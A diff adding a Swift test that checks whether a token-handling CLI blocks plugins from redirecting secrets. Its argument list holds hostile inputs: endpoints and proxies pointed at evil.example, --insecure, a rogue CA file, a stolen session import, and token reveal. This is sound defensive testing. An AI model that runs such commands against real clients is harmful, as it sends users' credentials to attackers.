@@ -142,6 +142,29 @@ import Testing
         }
     }
 
+    /// Nor does a plugin move the place where secrets go, or take them through a proxy or to whom nobody has verified.
+    @Test(arguments: [
+        "provider set token_endpoint=https://evil.example/token", "provider set base_url=https://evil.example",
+        "provider add mine base_url=https://evil.example", "provider add github base_url=https://evil.example",
+        "provider discover https://evil.example --as mine", "provider remove mine", "session import stolen.json",
+        "get /x --proxy http://evil.example", "get /x --insecure", "refresh --cacert evil.pem", "token show --reveal",
+    ])
+    func whatSaysWhereSecretsGoIsTheUsers(line: String) async throws {
+        let bench = await Bench([.tokens])
+        #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
+        _ = await bench.run("provider add mine base_url=https://api.example")
+        let body = "answer({'value': ask('keyway/run', line=message['params']['operands']['line'])})"
+        try await bench.addedProcess(body)
+        let count = bench.transport.requests.count
+        #expect(await bench.run("p-run '\(line)'") == [])
+        let answer = await bench.display.answers.compactMap(\.json).last
+        #expect(answer?["error"]?["data"] == "plugin-line", "\(answer?.text() ?? "")")
+        #expect(bench.transport.requests.count == count)
+        #expect(await bench.run("p-run 'provider add another base_url=https://other.example'") == [])
+        #expect(await bench.display.answers.compactMap(\.json).last?["error"] == nil)
+        await bench.workbench.endPlugins()
+    }
+
     /// Who made a request that cannot be sent is named.
     @Test(arguments: ["--method 'A B'", "--url nonsense", "'X-A:a\\nB: c'"])
     func hooksThatMakeNoRequestAreNamed(change: String) async throws {
